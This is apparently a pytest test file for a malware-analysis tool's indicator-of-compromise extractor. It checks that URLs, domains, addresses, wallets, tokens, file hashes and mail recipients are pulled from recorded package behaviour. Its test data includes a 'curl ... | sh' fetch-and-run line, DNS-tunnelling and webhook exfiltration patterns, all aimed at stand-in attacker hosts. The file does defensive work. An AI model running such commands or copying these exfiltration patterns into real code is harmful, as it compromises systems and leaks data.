"""Indicators: what others can recognise a release by, where each was seen, whose it is."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from made_rules import behaviours, dossier
from msgspec.structs import replace
from publicsuffixlist import PublicSuffixList

from biopsy.detect import iocs
from biopsy.detect.host import host_of, registrable
from biopsy.detect.iocs import MAX_WHERE
from biopsy.model.behaviour import By
from biopsy.model.dossier import Ioc, IocType
from biopsy.model.run import Change, Exchange, FileChange

HOOK = f"https://discord.com/api/webhooks/123456789012345678/{'a' * 68}"


def found(*seen: str) -> dict[tuple[str, str], Ioc]:
    return {(one.type.value, one.value): one for one in iocs(dossier(*seen))}


def test_a_request_gives_its_url_and_host_with_the_place() -> None:
    seen = found("net.http POST https://drop.example/x?y=1 @ laptop/install#3")
    assert seen["url", "https://drop.example/x?y=1"].where == ("laptop/install#3",)
    assert seen["domain", "drop.example"].reserved


@pytest.mark.parametrize(
    ("behaviour", "wanted"),
    [
        ("net.dns stage.attacker.net TXT @ import#1", ("domain", "stage.attacker.net")),
        ("net.connect 198.51.100.7:443 @ import#1", ("address", "198.51.100.7")),
        ("net.connect [2001:db8::7]:443 @ import#1", ("address", "2001:db8::7")),
        ("net.send udp stage.attacker.net:53 @ import#1", ("domain", "stage.attacker.net")),
        ("net.address 198.51.100.7 @ a.py:3", ("address", "198.51.100.7")),
        ("code.remote https://stage.attacker.net/x @ import#1", ("url", "https://stage.attacker.net/x")),
        ("canary.leak k > stage.attacker.net:443 as clear @ import#1", ("domain", "stage.attacker.net")),
        ("process.exec curl -s https://stage.attacker.net/x.sh | sh @ import#1", ("url", "https://stage.attacker.net/x.sh")),
        ("code.wallet BTC 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa @ a.py:3", ("wallet", "BTC 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")),
        ("code.token telegram 123456:AA @ a.py:3", ("token", "telegram 123456:AA")),
    ],
)  # fmt: skip
def test_every_kind_of_indicator_is_found(behaviour: str, wanted: tuple[str, str]) -> None:
    assert wanted in found(behaviour)


def test_names_that_carry_data_are_told_by_the_domain_above_them() -> None:
    seen = found(
        f"net.dns {'4f' * 20}.t.attacker.net @ import#1", f"net.dns {'5e' * 20}.t.attacker.net @ import#2"
    )
    assert [value for kind, value in seen if kind == "domain"] == ["attacker.net"]


def test_a_webhook_is_a_token_of_its_maker_and_its_url_nobody_elses() -> None:
    seen = found(f"net.http POST {HOOK} @ import#1")
    assert ("token", f"discord-webhook 123456789012345678/{'a' * 68}") in seen
    assert not seen["url", HOOK].shared
    assert seen["domain", "discord.com"].shared == "messenger"


@pytest.mark.parametrize(
    ("name", "shared"),
    [
        ("github.com", "code-host"),
        ("raw.githubusercontent.com", "code-host"),
        ("someone.github.io", ""),  # rented: its tenant's
        ("evil.herokuapp.com", ""),
        ("attacker.net", ""),
        ("github.com.attacker.net", ""),
    ],
)
def test_what_serves_everybody_is_marked_and_what_a_tenant_rents_is_not(name: str, shared: str) -> None:
    host = host_of(name)
    assert host is not None
    assert host.shared == shared


def test_a_host_that_served_packages_is_a_registry() -> None:
    host = host_of("mirror.attacker.net", frozenset({"mirror.attacker.net"}))
    assert host is not None
    assert host.shared == "registry"


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1", "0.0.0.0", "[::1]", "", "self.value", "a b"])
def test_this_very_machine_and_what_is_no_host_are_none(name: str) -> None:
    assert host_of(name) is None


@pytest.mark.parametrize(
    "name", ["x.example", "x.test", "x.invalid", "www.example.com", "203.0.113.9", "10.0.0.1"]
)
def test_reserved_names_are_kept_and_marked(name: str) -> None:
    host = host_of(name)
    assert host is not None
    assert host.reserved


def test_what_stands_in_tests_and_documents_or_is_the_tools_doing_is_left_out() -> None:
    made = dossier(
        "net.url https://a.attacker.net/ @ tests/a.py:1 (test)",
        "net.url https://b.attacker.net/ @ docs/a.md:1 (docs)",
        *behaviours("net.dns c.attacker.net @ install#1", by=By.TOOL),
    )
    assert {one.type for one in iocs(made)} == {IocType.HASH}


def test_the_artifact_and_what_it_left_behind_are_hashes() -> None:
    made = replace(
        dossier(),
        changes=(
            FileChange("laptop", "/tmp/.x", Change.CREATED, 5, "1" * 64),
            FileChange("laptop", "/tmp/y", Change.DELETED, 5, "2" * 64),
            FileChange("laptop", "/venv/lib/site-packages/thing/a.py", Change.CREATED, 5, "3" * 64),
            FileChange("laptop", "/tmp/z", Change.CREATED, 5, "4" * 64, by=By.TOOL),
        ),
    )
    assert {one.value for one in iocs(made)} == {"0" * 64, "1" * 64}


def test_a_mail_that_was_sent_names_who_got_it() -> None:
    said = Exchange(
        "laptop",
        "import",
        "tcp",
        "mx.attacker.net",
        25,
        "",
        "MAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>",
    )
    made = replace(dossier(), exchanges=(said,))
    assert {one.value for one in iocs(made) if one.type is IocType.MAIL} == {"a@b.example", "c@d.example"}


def test_what_a_run_showed_stands_before_what_was_read_and_both_before_what_is_shared() -> None:
    every = iocs(
        dossier(
            "net.url https://github.com/a/b @ a.py:1 (import)",
            "net.url https://read.attacker.net/ @ a.py:1 (import)",
            "net.dns ran.attacker.net @ import#1",
        )
    )
    names = [one.value for one in every if one.type is IocType.DOMAIN]
    assert names == ["ran.attacker.net", "read.attacker.net", "github.com"]


def test_places_are_cut_and_counted() -> None:
    (one,) = (
        one
        for one in iocs(dossier(*(f"net.dns a.attacker.net @ import#{n}" for n in range(50))))
        if one.type is IocType.DOMAIN
    )
    assert (len(one.where), one.more) == (MAX_WHERE, 50 - MAX_WHERE)


@given(st.text(max_size=300))
def test_no_name_makes_it_stumble(text: str) -> None:
    host_of(text)
    made = dossier(*behaviours("net.url x @ a.py:1", "net.connect x @ import#1", "process.exec x @ import#1"))
    iocs(replace(made, behaviours=tuple(replace(b, value=text) for b in made.behaviours)))


@pytest.mark.parametrize(
    "name",
    ["a.b.github.io", "x.co.jp", "city.kawasaki.jp", "a.b.ck", "www.ck", "a.xn--55qx5d.cn", "y.xn--p1ai", "a.b.nosuch", "com", "x.s3.amazonaws.com"],
)  # fmt: skip
def test_what_is_registrable_is_so_by_the_whole_list(name: str) -> None:
    assert registrable(name) == (PublicSuffixList().privatesuffix(name) or "")
